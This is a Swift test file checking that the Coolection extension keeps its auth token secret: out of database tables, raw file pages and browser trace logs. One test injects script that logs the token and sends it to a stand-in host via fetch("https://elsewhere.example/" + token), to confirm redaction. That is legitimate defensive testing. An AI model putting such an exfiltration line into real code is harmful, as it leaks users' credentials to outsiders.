import Crypto
import Database
import ExtensionRunner
import Foundation
import JSONText
import Systems
import Testing

// The token stands in the keychain and nowhere else.
// Seed: 000_6437c680b68e4f8f.txt, "Token hashed with SHA-256, never stored in plaintext" and "Token Flow"
@Suite struct CoolectionSecretTests {
    /// The scene's own token, which the native half hands out.
    private func token(of scene: CoolectionScene) async throws -> String {
        try #require(await scene.system.nativeHandler.handle(["action": "getToken"])?["token"]?.stringValue)
    }

    @Test func aRegeneratedTokenMakesTheOldOne401() async throws {
        let scene = try await CoolectionScene()
        try await scene.tap()
        let new = try scene.system.generateToken(of: scene.account)
        try await scene.tap()
        try scene.system.tokenEntry.save(new)
        try await scene.tap()
        #expect(await scene.statuses == [200, 401, 409])
    }

    @Test func noTableHoldsTheToken() async throws {
        let path = "/tmp/coolection-secret-\(UUID().uuidString).db"
        defer { for suffix in ["", "-wal", "-shm"] { try? FileManager.default.removeItem(atPath: path + suffix) } }
        let scene = try await CoolectionScene(database: try Connection(path: path))
        try await scene.tap()
        let token = try await token(of: scene)
        let database = try Connection(path: path)
        var cells: [String] = []
        for table in try database.rows("SELECT name FROM sqlite_schema WHERE type = 'table'") {
            let name = try #require(table[0].text)
            cells += try database.rows("SELECT * FROM \"\(name)\"").flatMap(\.values).map { "\($0)" }
        }
        #expect(cells.contains { $0.contains("https://example.com/a") })
        #expect(cells.contains { $0.contains(sha256(token).hex) })
        #expect(!cells.contains { $0.contains(token.dropFirst("coolection_".count)) })
        // Nor does the file, in a page that is not in use any more.
        let bytes =
            try Data(contentsOf: URL(filePath: path))
            + ((try? Data(contentsOf: URL(filePath: path + "-wal"))) ?? Data())
        #expect(bytes.range(of: Data(token.utf8)) == nil)
    }

    @Test func noTraceAndNoLogHoldsItEvenWhereTheScriptLogsIt() async throws {
        let scene = try await CoolectionScene(script: { source in
            source.replacingOccurrences(
                of: "if (!token) return;",
                with: """
                    if (!token) return;
                    console.log("token", token, { token }, [token]);
                    console.error(new Error(token));
                    console.log(token.slice(0, 11), `x${token}y`);
                    fetch("https://elsewhere.example/" + token).catch((error) => console.log(String(error)));
                    """)
        })
        try await scene.tap()
        #expect(try await scene.badge == "✓")
        let token = try await token(of: scene)
        let lines = await scene.browser.trace.map(\.json.text)
        #expect(lines.contains { $0.contains("token [redacted]") })
        #expect(!lines.contains { $0.contains(token) || $0.contains(token.dropFirst("coolection_".count)) })
    }

    @Test func theSessionIsInNoTraceEither() async throws {
        let scene = try await CoolectionScene()
        try await scene.tap()
        #expect(await !scene.browser.trace.contains { $0.json.text.contains(scene.account.session) })
    }
}
